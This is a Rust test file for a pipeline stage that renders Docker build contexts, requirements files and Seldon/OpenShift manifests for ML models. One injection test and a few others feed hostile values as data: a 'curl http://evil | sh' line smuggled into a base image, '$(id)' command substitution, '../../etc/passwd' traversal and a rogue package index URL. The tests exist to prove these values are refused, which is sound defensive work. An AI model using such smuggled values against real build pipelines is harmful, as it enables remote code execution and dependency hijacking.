use std::path::{Path, PathBuf};

use super::*;
use crate::manifests::{self, BuildVars, DeployVars, PortRef, RouteVars};

const MODEL_DIGEST: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures").join(name)
}

fn input(dir: &Path, params: Params) -> RenderInput {
    RenderInput {
        params,
        model_name: "weather".into(),
        model_dir: dir.to_path_buf(),
        model_digest: Some(MODEL_DIGEST.into()),
        link_model_files: false,
    }
}

fn copy_dir(from: &Path, to: &Path, skip: &[&str]) {
    for e in tree::walk(from).unwrap() {
        if skip.contains(&e.rel.as_str()) {
            continue;
        }
        let dst = to.join(&e.rel);
        fs::create_dir_all(dst.parent().unwrap()).unwrap();
        fs::copy(&e.abs, dst).unwrap();
    }
}

fn read(ctx: &RenderedContext, file: &str) -> String {
    fs::read_to_string(ctx.dir.join(file)).unwrap()
}

/// Error text with the temp paths replaced, for snapshots.
fn scrub(text: String, dirs: &[&Path]) -> String {
    dirs.iter().fold(text, |t, d| t.replace(&d.display().to_string(), "[DIR]"))
}

fn weather_params() -> Params {
    Params {
        source: Some("https://github.com/example/models.git".into()),
        revision: Some("0123456789abcdef0123456789abcdef01234567".into()),
        ..Params::default()
    }
}

#[test]
fn weather_user_class_is_used_as_is() {
    let out = tempfile::tempdir().unwrap();
    let ctx = render_context(
        &Catalog::embedded(),
        &input(&fixture("weather-model"), weather_params()),
        &out.path().join("ctx"),
    )
    .unwrap();
    assert_eq!(ctx.class, ModelClassSource::User { file: "MyModel.py".into() });
    assert_eq!(ctx.files, vec!["Dockerfile", "MyModel.py", "README.md", "requirements.txt", "weather.json"]);
    assert_eq!(read(&ctx, "MyModel.py"), fs::read_to_string(fixture("weather-model/MyModel.py")).unwrap());
    insta::assert_snapshot!("weather_dockerfile", read(&ctx, "Dockerfile"));
    insta::assert_snapshot!("weather_requirements", read(&ctx, "requirements.txt"));
}

#[test]
fn default_requirements_equal_the_checked_in_lock() {
    // scripts/setup.d/40-seldon.sh builds the test venv from this lock file;
    // if the template changes, the lock (and the venv hash) must follow.
    let out = tempfile::tempdir().unwrap();
    let ctx = render_context(
        &Catalog::embedded(),
        &input(&fixture("weather-model"), Params::default()),
        &out.path().join("c"),
    )
    .unwrap();
    let lock = fs::read_to_string(fixture("requirements-lock/weather.txt")).unwrap();
    assert_eq!(read(&ctx, "requirements.txt"), lock);
}

#[test]
fn context_digest_is_stable_over_output_dir_and_rerender() {
    let out = tempfile::tempdir().unwrap();
    let cat = Catalog::embedded();
    let inp = input(&fixture("weather-model"), weather_params());
    let a = render_context(&cat, &inp, &out.path().join("a")).unwrap();
    let b = render_context(&cat, &inp, &out.path().join("b")).unwrap();
    // Rendering again into the same directory replaces it whole.
    let a2 = render_context(&cat, &inp, &out.path().join("a")).unwrap();
    assert_eq!(a.digest, b.digest);
    assert_eq!(a.digest, a2.digest);
    assert!(!out.path().join("a.partial").exists());
    let mut other = weather_params();
    other.revision = Some("fedcba".into());
    let c = render_context(&cat, &input(&fixture("weather-model"), other), &out.path().join("c")).unwrap();
    assert_ne!(a.digest, c.digest, "a different revision label is a different context");
}

#[test]
fn sklearn_model_gets_a_generated_wrapper() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("model.joblib"), b"not really a pickle").unwrap();
    fs::copy(fixture("sklearn-model/requirements.txt"), model.path().join("requirements.txt")).unwrap();
    let out = tempfile::tempdir().unwrap();
    let ctx =
        render_context(&Catalog::embedded(), &input(model.path(), Params::default()), &out.path().join("c")).unwrap();
    assert_eq!(
        ctx.class,
        ModelClassSource::Generated { format: "sklearn", file: "MyModel.py".into(), model_file: "model.joblib".into() }
    );
    assert_eq!(ctx.files, vec!["Dockerfile", "MyModel.py", "model.joblib", "requirements.txt"]);
    insta::assert_snapshot!("sklearn_wrapper", read(&ctx, "MyModel.py"));
    let lock = fs::read_to_string(fixture("requirements-lock/sklearn.txt")).unwrap();
    assert_eq!(read(&ctx, "requirements.txt"), lock);
}

#[test]
fn sklearn_defaults_pins_when_the_model_has_no_requirements() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("clf.pkl"), b"x").unwrap();
    let params = Params { requirements: vec!["joblib==1.3.2".into(), "pandas==2.2.3".into()], ..Params::default() };
    let out = tempfile::tempdir().unwrap();
    let ctx = render_context(&Catalog::embedded(), &input(model.path(), params), &out.path().join("c")).unwrap();
    insta::assert_snapshot!("sklearn_default_pins", read(&ctx, "requirements.txt"));
}

#[test]
fn json_model_without_class_gets_the_json_wrapper() {
    let model = tempfile::tempdir().unwrap();
    copy_dir(&fixture("weather-model"), model.path(), &["MyModel.py", "README.md"]);
    let out = tempfile::tempdir().unwrap();
    let ctx =
        render_context(&Catalog::embedded(), &input(model.path(), Params::default()), &out.path().join("c")).unwrap();
    assert_eq!(
        ctx.class,
        ModelClassSource::Generated { format: "json", file: "MyModel.py".into(), model_file: "weather.json".into() }
    );
    insta::assert_snapshot!("json_wrapper", read(&ctx, "MyModel.py"));
}

#[test]
fn keras_wrapper_template_renders() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("weather.h5"), b"x").unwrap();
    let params = Params { model_class: "Weather".into(), ..Params::default() };
    let out = tempfile::tempdir().unwrap();
    let ctx = render_context(&Catalog::embedded(), &input(model.path(), params), &out.path().join("c")).unwrap();
    assert!(read(&ctx, "Weather.py").contains("class Weather:"));
    assert!(read(&ctx, "Weather.py").contains("load_model(MODEL_FILE, compile=False)"));
}

#[test]
fn keras_requirements_equal_the_checked_in_lock() {
    // scripts/setup.d/65-keras-venv.sh pre-warms the sim's venv for this lock:
    // the generated wrapper's default pins and the weather-keras fixture's own
    // requirements.txt render the same file, so both are served by one venv.
    let lock = fs::read_to_string(fixture("requirements-lock/keras.txt")).unwrap();
    let out = tempfile::tempdir().unwrap();
    let user = render_context(
        &Catalog::embedded(),
        &input(&fixture("weather-keras-model"), Params::default()),
        &out.path().join("user"),
    )
    .unwrap();
    assert_eq!(user.class, ModelClassSource::User { file: "MyModel.py".into() });
    assert_eq!(read(&user, "requirements.txt"), lock);

    let bare = tempfile::tempdir().unwrap();
    fs::copy(fixture("weather-keras-model/weather.keras"), bare.path().join("weather.keras")).unwrap();
    let generated =
        render_context(&Catalog::embedded(), &input(bare.path(), Params::default()), &out.path().join("gen")).unwrap();
    assert_eq!(
        generated.class,
        ModelClassSource::Generated { format: "keras", file: "MyModel.py".into(), model_file: "weather.keras".into() }
    );
    assert_eq!(read(&generated, "requirements.txt"), lock);
}

#[test]
fn a_models_tensorflow_pin_replaces_the_default_tensorflow_cpu() {
    // Both distributions install the `tensorflow` package; installing the two
    // side by side leaves whichever pip unpacks last.
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("weather.keras"), b"x").unwrap();
    fs::write(model.path().join("requirements.txt"), "tensorflow==2.19.1\n").unwrap();
    let out = tempfile::tempdir().unwrap();
    let ctx =
        render_context(&Catalog::embedded(), &input(model.path(), Params::default()), &out.path().join("c")).unwrap();
    let reqs = read(&ctx, "requirements.txt");
    assert!(reqs.contains("\ntensorflow==2.19.1\n"), "{reqs}");
    assert!(!reqs.contains("tensorflow-cpu"), "{reqs}");
    assert!(reqs.contains("\nkeras==3.15.1\n"), "{reqs}");
}

#[test]
fn env_values_are_quoted_literally_in_the_dockerfile() {
    let params = Params {
        env: BTreeMap::from([
            ("GREETING".to_string(), r#"say "hi" to $USER \o/"#.to_string()),
            ("WORKERS".to_string(), "2".to_string()),
        ]),
        ..Params::default()
    };
    let out = tempfile::tempdir().unwrap();
    let ctx =
        render_context(&Catalog::embedded(), &input(&fixture("weather-model"), params), &out.path().join("c")).unwrap();
    let dockerfile = read(&ctx, "Dockerfile");
    assert!(dockerfile.contains(r#"    GREETING="say \"hi\" to \$USER \\o/" \"#), "{dockerfile}");
    assert!(dockerfile.contains(r#"    WORKERS="2" \"#), "{dockerfile}");
}

#[test]
fn missing_class_and_no_known_format_is_bad_input() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("weights.bin"), b"x").unwrap();
    let out = tempfile::tempdir().unwrap();
    let err = render_context(&Catalog::embedded(), &input(model.path(), Params::default()), &out.path().join("c"))
        .unwrap_err();
    assert_eq!(err.exit_class(), ExitClass::BadInput);
    insta::assert_snapshot!("no_model_class", scrub(err.to_string(), &[model.path()]));
}

#[test]
fn python_format_requires_the_class() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("MyModel.py"), "class Other:\n    pass\n").unwrap();
    let params = Params { model_format: ModelFormat::Python, ..Params::default() };
    let out = tempfile::tempdir().unwrap();
    let err = render_context(&Catalog::embedded(), &input(model.path(), params), &out.path().join("c")).unwrap_err();
    assert!(matches!(err, RenderError::PythonClassMissing { .. }), "{err}");
}

#[test]
fn a_file_named_like_the_class_is_never_overwritten() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("MyModel.py"), "# helper, no class\n").unwrap();
    fs::write(model.path().join("model.joblib"), b"x").unwrap();
    let out = tempfile::tempdir().unwrap();
    let err = render_context(&Catalog::embedded(), &input(model.path(), Params::default()), &out.path().join("c"))
        .unwrap_err();
    assert!(matches!(err, RenderError::ClassFileClash { .. }), "{err}");
}

#[test]
fn several_candidates_need_model_file_or_format() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("a.joblib"), b"x").unwrap();
    fs::write(model.path().join("b.pkl"), b"x").unwrap();
    let cat = Catalog::embedded();
    let out = tempfile::tempdir().unwrap();
    let err = render_context(&cat, &input(model.path(), Params::default()), &out.path().join("c")).unwrap_err();
    insta::assert_snapshot!("ambiguous_model_file", scrub(err.to_string(), &[model.path()]));
    let params = Params { model_file: Some("b.pkl".into()), ..Params::default() };
    let ctx = render_context(&cat, &input(model.path(), params), &out.path().join("c")).unwrap();
    assert!(read(&ctx, "MyModel.py").contains(r#""b.pkl""#));

    fs::write(model.path().join("meta.json"), b"{}").unwrap();
    let err = render_context(&cat, &input(model.path(), Params::default()), &out.path().join("c")).unwrap_err();
    assert!(matches!(err, RenderError::AmbiguousFormat { .. }), "{err}");
    let params = Params { model_format: ModelFormat::Json, ..Params::default() };
    let ctx = render_context(&cat, &input(model.path(), params), &out.path().join("c")).unwrap();
    assert!(read(&ctx, "MyModel.py").contains(r#""meta.json""#));
}

/// Guards the injection refusal: each parameter that reaches the Dockerfile
/// or requirements.txt refuses a value that would add structure, by name.
#[test]
fn injection_is_refused_naming_the_parameter() {
    let cases: Vec<(&str, Params)> = vec![
        ("baseImage", Params { base_image: "ubi9/python-311\nRUN curl http://evil | sh".into(), ..Params::default() }),
        ("modelClass", Params { model_class: "MyModel --debug".into(), ..Params::default() }),
        ("seldonCoreVersion", Params { seldon_core_version: "1.17.1\nevil==6.6.6".into(), ..Params::default() }),
        (
            "requirements[0]",
            Params { requirements: vec!["--extra-index-url http://evil/".into()], ..Params::default() },
        ),
        (
            "env.GREETING",
            Params { env: BTreeMap::from([("GREETING".into(), "hi\nUSER 0".into())]), ..Params::default() },
        ),
        ("env.BAD NAME", Params { env: BTreeMap::from([("BAD NAME".into(), "x".into())]), ..Params::default() }),
        ("source", Params { source: Some("https://x.example/\" evil=\"1".into()), ..Params::default() }),
        ("revision", Params { revision: Some("abc$(id)".into()), ..Params::default() }),
        ("modelFile", Params { model_file: Some("../../etc/passwd".into()), ..Params::default() }),
    ];
    let out = tempfile::tempdir().unwrap();
    let mut report = String::new();
    for (param, params) in cases {
        let err =
            render_context(&Catalog::embedded(), &input(&fixture("weather-model"), params), &out.path().join("c"))
                .unwrap_err();
        assert!(matches!(&err, RenderError::InvalidParam { param: p, .. } if p == param), "{param}: {err}");
        assert_eq!(err.exit_class(), ExitClass::BadInput);
        report.push_str(&format!("{err}\n"));
    }
    assert!(!out.path().join("c").exists(), "nothing is written for refused input");
    insta::assert_snapshot!("injection_refusals", report);
}

#[test]
fn validate_skips_templated_values_and_flags_managed_pins() {
    let params = Params {
        base_image: "{{params.baseImage}}".into(),
        requirements: vec!["seldon-core==1.18.0".into(), "setuptools==75.0".into()],
        ..Params::default()
    };
    let problems = param_problems(&params, true);
    let paths: Vec<&str> = problems.iter().map(|p| p.path.as_str()).collect();
    assert_eq!(paths, vec!["requirements[0]", "requirements[1]"]);
    assert_eq!(problems[0].hint.as_deref(), Some("set with.seldonCoreVersion instead"));
    assert!(!param_problems(&params, false).iter().all(|p| p.path != "baseImage"));
}

#[test]
fn model_requirements_are_merged_and_managed_pins_kept() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("MyModel.py"), "class MyModel:\n    pass\n").unwrap();
    fs::write(
        model.path().join("requirements.txt"),
        "# the notebook's pins\nnumpy==1.26.4  # arrays\nseldon-core==1.5.0\nSetupTools>=75\n\nrequests==2.31.0\n",
    )
    .unwrap();
    let params = Params { requirements: vec!["requests==2.32.3".into()], ..Params::default() };
    let out = tempfile::tempdir().unwrap();
    let ctx = render_context(&Catalog::embedded(), &input(model.path(), params), &out.path().join("c")).unwrap();
    insta::assert_snapshot!("merged_requirements", read(&ctx, "requirements.txt"));
}

#[test]
fn bad_line_in_model_requirements_names_file_and_line() {
    let model = tempfile::tempdir().unwrap();
    fs::write(model.path().join("MyModel.py"), "class MyModel:\n    pass\n").unwrap();
    fs::write(model.path().join("requirements.txt"), "numpy==1.26.4\n--index-url http://evil/\n").unwrap();
    let out = tempfile::tempdir().unwrap();
    let err = render_context(&Catalog::embedded(), &input(model.path(), Params::default()), &out.path().join("c"))
        .unwrap_err();
    let text = scrub(err.to_string(), &[model.path()]);
    assert!(text.starts_with("[DIR]/requirements.txt:2: `--index-url http://evil/`"), "{text}");
}

#[test]
fn unknown_template_variable_names_file_and_line() {
    let overrides = tempfile::tempdir().unwrap();
    fs::create_dir_all(overrides.path().join("render")).unwrap();
    let file = overrides.path().join("render/Dockerfile.hbs");
    fs::write(&file, "FROM {{baseImage}}\nENV MODEL_NAME={{modelClass}}\nLABEL team={{team}}\n").unwrap();
    let cat = Catalog::embedded().with_override(overrides.path());
    let out = tempfile::tempdir().unwrap();
    let err =
        render_context(&cat, &input(&fixture("weather-model"), Params::default()), &out.path().join("c")).unwrap_err();
    assert!(matches!(err, RenderError::Template(TemplateError { line: Some(3), .. })), "{err:?}");
    let text = err.to_string();
    assert!(text.starts_with(&format!("{}:3: ", file.display())), "{text}");
    assert!(text.contains("team"), "{text}");
}

#[test]
fn override_templates_win() {
    let overrides = tempfile::tempdir().unwrap();
    fs::create_dir_all(overrides.path().join("render")).unwrap();
    fs::write(
        overrides.path().join("render/requirements.txt.hbs"),
        "seldon-core=={{seldonCoreVersion}}\nsetuptools<70\nextra==1\n",
    )
    .unwrap();
    let cat = Catalog::embedded().with_override(overrides.path());
    let out = tempfile::tempdir().unwrap();
    let ctx =
        render_context(&cat, &input(&fixture("weather-model"), Params::default()), &out.path().join("c")).unwrap();
    assert_eq!(read(&ctx, "requirements.txt"), "seldon-core==1.17.1\nsetuptools<70\nextra==1\n");
}

#[test]
fn params_reject_unknown_keys_and_fill_defaults() {
    let with = serde_json::json!({"modelClas": "X"});
    let err = crate::stages::kind::parse_params::<Render>(with.as_object().unwrap()).unwrap_err();
    assert!(err.message.contains("unknown field `modelClas`"), "{}", err.message);
    let with = serde_json::json!({"modelFormat": "sklearn", "predictMethod": "predict_proba"});
    let p = crate::stages::kind::parse_params::<Render>(with.as_object().unwrap()).unwrap();
    assert_eq!(p.model_class, "MyModel");
    assert_eq!(p.base_image, DEFAULT_BASE_IMAGE);
    assert_eq!(p.seldon_core_version, "1.17.1");
    assert_eq!(p.model_format, ModelFormat::Sklearn);
    assert_eq!(p.predict_method, PredictMethod::PredictProba);
}

fn build_vars() -> BuildVars {
    let mut v = BuildVars::new("weather", "models-dev");
    v.labels.insert("modelship.io/model".into(), "weather".into());
    v.annotations.insert("modelship.io/context-digest".into(), MODEL_DIGEST.into());
    v
}

fn deploy_vars() -> DeployVars {
    let image =
        format!("image-registry.openshift-image-registry.svc:5000/models-dev/weather@sha256:{}", "a".repeat(64));
    let mut v = DeployVars::new("weather", "models-dev", image);
    v.env.insert("SELDON_LOG_LEVEL".into(), "INFO".into());
    v.env.insert("FEATURE_FLAG".into(), "true".into());
    v.resources.requests.insert("cpu".into(), "100m".into());
    v.resources.requests.insert("memory".into(), "256Mi".into());
    v.resources.limits.insert("memory".into(), "512Mi".into());
    v.annotations.insert("modelship.io/run".into(), "run-1".into());
    v
}

fn route_vars() -> RouteVars {
    let mut v = RouteVars::new("weather", "models-dev", manifests::seldon_service_name("weather", "default"));
    v.host = Some("weather-models-dev.apps.example.com".into());
    v.tls = true;
    v
}

#[test]
fn manifests_render() {
    let cat = Catalog::embedded();
    insta::assert_snapshot!("buildconfig", manifests::build_config_yaml(&cat, &build_vars()).unwrap());
    insta::assert_snapshot!(
        "imagestream",
        manifests::image_stream_yaml(&cat, &BuildVars::new("weather", "models-dev")).unwrap()
    );
    insta::assert_snapshot!("seldondeployment", manifests::seldon_deployment_yaml(&cat, &deploy_vars()).unwrap());
    insta::assert_snapshot!("route", manifests::route_yaml(&cat, &route_vars()).unwrap());
    let mut minimal = RouteVars::new("weather", "models-dev", "weather-default");
    minimal.target_port = PortRef::Number(8000);
    let route = manifests::route_yaml(&cat, &minimal).unwrap();
    assert!(route.contains("targetPort: 8000\n") && !route.contains("host:") && !route.contains("tls:"), "{route}");
}

#[test]
fn manifest_values_that_add_yaml_are_refused() {
    let cat = Catalog::embedded();
    let mut v = build_vars();
    v.name = "weather\n  evil: true".into();
    assert!(
        manifests::build_config_yaml(&cat, &v)
            .unwrap_err()
            .to_string()
            .starts_with("BuildConfig: name `weather⏎  evil: true` contains a newline")
    );
    let mut v = deploy_vars();
    v.image = "quay.io/org/weather:latest".into();
    insta::assert_snapshot!(
        "deploy_image_not_pinned",
        manifests::seldon_deployment_yaml(&cat, &v).unwrap_err().to_string()
    );
    let mut v = deploy_vars();
    v.env.insert("MULTI".into(), "a\nb".into());
    assert!(manifests::seldon_deployment_yaml(&cat, &v).is_err());
    // Free text is quoted, so YAML-looking values stay strings.
    let mut v = deploy_vars();
    v.annotations.insert("note".into(), "key: {value}, [list] # not a comment".into());
    let text = manifests::seldon_deployment_yaml(&cat, &v).unwrap();
    let parsed: Value = crate::spec::yaml::from_str(&text).unwrap();
    assert_eq!(parsed["metadata"]["annotations"]["note"], "key: {value}, [list] # not a comment");
    assert_eq!(
        parsed["spec"]["predictors"][0]["componentSpecs"][0]["spec"]["containers"][0]["env"][0]["value"],
        "true"
    );
}

#[test]
fn manifest_override_of_the_wrong_kind_is_caught() {
    let overrides = tempfile::tempdir().unwrap();
    fs::create_dir_all(overrides.path().join("openshift-build")).unwrap();
    fs::write(
        overrides.path().join("openshift-build/imagestream.yaml.hbs"),
        "kind: ConfigMap\nmetadata:\n  name: {{name}}\n",
    )
    .unwrap();
    let cat = Catalog::embedded().with_override(overrides.path());
    let err = manifests::image_stream_yaml(&cat, &build_vars()).unwrap_err();
    assert!(matches!(err, manifests::ManifestError::WrongKind { .. }), "{err}");
}

const PIPELINE: &str = r#"
apiVersion: modelship.io/v1alpha1
kind: Pipeline
metadata: { name: weather }
spec:
  model: { name: weather, source: "s3://models/weather/" }
  environments:
    dev: { namespace: models-dev }
  stages:
    - name: fetch
      uses: fetch-model
    - name: render
      uses: render
      with: { modelClass: MyModel, baseImage: "{{params.base}}" }
"#;

fn pipeline(text: &str) -> crate::spec::Pipeline {
    crate::spec::yaml::from_str(text).unwrap()
}

fn validate_cx<'a>(p: &'a crate::spec::Pipeline, catalog: &'a Catalog, index: usize) -> ValidateCx<'a> {
    ValidateCx { pipeline: p, stage: &p.spec.stages[index], index, catalog }
}

#[test]
fn validate_and_plan_are_pure_and_need_a_model_source() {
    let cat = Catalog::embedded();
    let p = pipeline(PIPELINE);
    let params = Params { base_image: "{{params.base}}".into(), ..Params::default() };
    assert_eq!(Render::validate(&params, &validate_cx(&p, &cat, 1)), vec![]);
    let plan = Render::plan(&params, &validate_cx(&p, &cat, 1));
    assert_eq!(plan[0], "render build context in workspace `render/context` from the model fetched by stage `fetch`");

    let without_fetch = pipeline(&PIPELINE.replace("uses: fetch-model", "uses: prediction-check"));
    let problems = Render::validate(&Params::default(), &validate_cx(&without_fetch, &cat, 1));
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert!(problems[0].message.contains("no `fetch-model` stage runs before this one"), "{problems:?}");
    let with_dir = Params { model_dir: Some("models/weather".into()), ..Params::default() };
    assert_eq!(Render::validate(&with_dir, &validate_cx(&without_fetch, &cat, 1)), vec![]);
}

#[tokio::test]
async fn run_reads_fetch_model_outputs_and_run_labels() {
    use std::sync::Arc;
    let work = tempfile::tempdir().unwrap();
    let p = Arc::new(pipeline(PIPELINE));
    let fetched = crate::stages::Outputs::from([
        ("modelDir".to_string(), json!(fixture("weather-model").display().to_string())),
        ("contentDigest".to_string(), json!(MODEL_DIGEST)),
    ]);
    let cx = StageContext {
        run_id: "run-1".into(),
        pipeline: p.clone(),
        pipeline_dir: work.path().to_path_buf(),
        stage: p.spec.stages[1].clone(),
        attempt: 1,
        workspace: work.path().join("ws"),
        links: crate::stages::Links::resolve(
            &p,
            1,
            &BTreeMap::from([("fetch".to_string(), (Default::default(), fetched.clone()))]),
        ),
        outputs: BTreeMap::from([("fetch".to_string(), fetched)]),
        params: BTreeMap::new(),
        labels: BTreeMap::from([("commit".to_string(), "0123abc".to_string())]),
        previous: None,
        clusters: Arc::new(crate::cluster::Clusters::new(p.spec.environments.clone(), None)),
        state: Arc::new(crate::state::dir::DirStore::new(work.path().join("state"))),
        run_key: crate::state::RunKey { pipeline: "weather".into(), run_id: "run-1".into() },
        catalog: Arc::new(Catalog::embedded()),
        cancel: tokio_util::sync::CancellationToken::new(),
        interactive: false,
        park: false,
    };
    let out = crate::stages::to_outputs(&Render::run(Params::default(), &cx).await.unwrap()).unwrap();
    let dir = work.path().join("ws/render/context");
    assert_eq!(out["contextDir"], json!(dir.display().to_string()));
    assert_eq!(out["files"], json!(["Dockerfile", "MyModel.py", "README.md", "requirements.txt", "weather.json"]));
    let dockerfile = fs::read_to_string(dir.join("Dockerfile")).unwrap();
    assert!(dockerfile.contains(&format!("io.modelship.model.digest=\"{MODEL_DIGEST}\"")), "{dockerfile}");
    assert!(dockerfile.contains("org.opencontainers.image.revision=\"0123abc\""), "{dockerfile}");
    // No Git remote among the labels: the image's source is the model's.
    assert!(dockerfile.contains("org.opencontainers.image.source=\"s3://models/weather/\""), "{dockerfile}");
    assert_eq!(out["modelDigest"], json!(MODEL_DIGEST));

    // Same input, same digest: openshift-build may skip the rebuild.
    let again = crate::stages::to_outputs(&Render::run(Params::default(), &cx).await.unwrap()).unwrap();
    assert_eq!(out["contextDigest"], again["contextDigest"]);

    // A missing model directory is the user's input, not a failed stage.
    let params = Params { model_dir: Some("no/such/dir".into()), ..Params::default() };
    let err = Render::run(params, &cx).await.unwrap_err();
    assert_eq!(err.kind, StageErrorKind::BadInput, "{err}");
}

/// Guards against a context that changes behind its digest: files of a
/// directory the run does not own (a `modelDir` someone may edit in place)
/// are copied; only fetch-model's own output is hard-linked.
#[cfg(unix)]
#[test]
fn model_files_are_linked_only_when_the_run_owns_them() {
    use std::os::unix::fs::MetadataExt;
    let model = tempfile::tempdir().unwrap();
    copy_dir(&fixture("weather-model"), model.path(), &[]);
    let out = tempfile::tempdir().unwrap();
    let cat = Catalog::embedded();
    let ino = |p: &Path| fs::metadata(p).unwrap().ino();
    let src = model.path().join("weather.json");

    let copied = render_context(&cat, &input(model.path(), Params::default()), &out.path().join("a")).unwrap();
    assert_ne!(ino(&copied.dir.join("weather.json")), ino(&src));

    let owned = RenderInput { link_model_files: true, ..input(model.path(), Params::default()) };
    let linked = render_context(&cat, &owned, &out.path().join("b")).unwrap();
    assert_eq!(ino(&linked.dir.join("weather.json")), ino(&src));
    assert_eq!(copied.digest, linked.digest);
}

#[test]
fn a_stopped_render_leaves_the_previous_context_alone() {
    let out = tempfile::tempdir().unwrap();
    let cat = Catalog::embedded();
    let inp = input(&fixture("weather-model"), Params::default());
    let first = render_context(&cat, &inp, &out.path().join("c")).unwrap();
    let err = render_context_until(&cat, &inp, &out.path().join("c"), &|| true).unwrap_err();
    assert!(matches!(err, RenderError::Cancelled), "{err}");
    let entries = tree::walk(&out.path().join("c")).unwrap();
    assert_eq!(tree::tree_digest(&entries).unwrap(), first.digest);
}
